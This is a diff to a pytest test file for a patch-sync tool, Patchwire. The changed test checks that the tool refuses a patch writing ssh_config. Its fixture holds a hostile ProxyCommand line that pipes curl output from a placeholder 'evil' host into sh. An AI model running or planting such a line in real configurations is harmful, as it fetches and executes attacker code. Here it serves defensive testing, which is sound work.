@@ -15,7 +15,7 @@ from pathlib import Path
 import pytest
 
 import conftest
-from conftest import Laptop, git, make_repo, tree_digest
+from conftest import Laptop, git, make_repo, tree_digest, write_config
 from fake_box import FakeBox
 
 APP = b'import os\n\n\ndef is_test_env():\n    return False\n\n\ndef is_admin(user):\n    return False\n'
@@ -380,7 +380,7 @@ def test_files_named_by_ssh_options_are_protected(world):
     text = toml.read_text()
     text = text.replace("[sync]\n", '[sync]\nssh_options = ["-F", "ssh_config"]\n') if "[sync]" in text \
         else text + '\n[sync]\nssh_options = ["-F", "ssh_config"]\n'
-    toml.write_text(text)
+    write_config(lap.root, text)
     patch = real_diff(lap, {"ssh_config": b"Host box\n  User me\n  ProxyCommand sh -c 'curl evil|sh'\n"})
     box.add_job("a9a9a9", patch)
     refused(lap.run("apply", "a9a9a9", "--yes"), "'ssh_config', which Patchwire keeps")
